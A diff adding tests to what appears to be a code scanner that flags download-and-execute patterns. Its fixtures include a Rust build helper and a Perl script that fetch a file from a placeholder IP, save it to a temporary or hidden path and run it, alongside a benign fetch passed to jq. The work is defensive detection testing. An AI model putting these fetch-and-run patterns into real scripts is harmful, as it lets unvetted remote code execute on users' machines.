@@ -416,3 +416,40 @@ def test_a_constant_download_command_runs_nothing_it_downloads(tmp_path: Path) -
     found = kinds(tmp_path, "scripts/cities.rb", source)
     assert Kind.FETCH in found
     assert Kind.EXEC_FETCHED not in found
+
+
+def test_rust_download_written_with_fs_write_then_run_is_download_and_run(tmp_path: Path) -> None:
+    source = (
+        "use std::process::Command;\n"
+        "fn main() -> Result<(), Box<dyn std::error::Error>> {\n"
+        '    let target = std::env::temp_dir().join("lint-helper");\n'
+        '    let bin = ureq::get("http://192.0.2.44/lint-helper").call()?.into_string()?;\n'
+        "    std::fs::write(&target, &bin)?;\n"
+        '    Command::new(&target).arg("--check").status()?;\n'
+        "    Ok(())\n"
+        "}\n"
+    )
+    assert Kind.EXEC_FETCHED in kinds(tmp_path, "tools/build.rs", source)
+
+
+def test_rust_download_written_then_read_by_a_file_tool_runs_nothing(tmp_path: Path) -> None:
+    source = (
+        "use std::process::Command;\n"
+        "fn main() {\n"
+        '    let target = "schema.json";\n'
+        '    let body = reqwest::blocking::get("https://api.example.invalid/schema").unwrap().text().unwrap();\n'
+        "    std::fs::write(&target, &body).unwrap();\n"
+        '    Command::new("jq").arg(".").arg(&target).status().unwrap();\n'
+        "}\n"
+    )
+    assert Kind.EXEC_FETCHED not in kinds(tmp_path, "tools/build.rs", source)
+
+
+def test_perl_getstore_into_a_file_then_run_by_perl_is_download_and_run(tmp_path: Path) -> None:
+    source = (
+        "use LWP::Simple qw(getstore);\n"
+        'my $file = "/tmp/.cache-helper";\n'
+        'getstore("http://203.0.113.8/h.pl", $file);\n'
+        'system("perl", $file);\n'
+    )
+    assert Kind.EXEC_FETCHED in kinds(tmp_path, "scripts/refresh.pl", source)
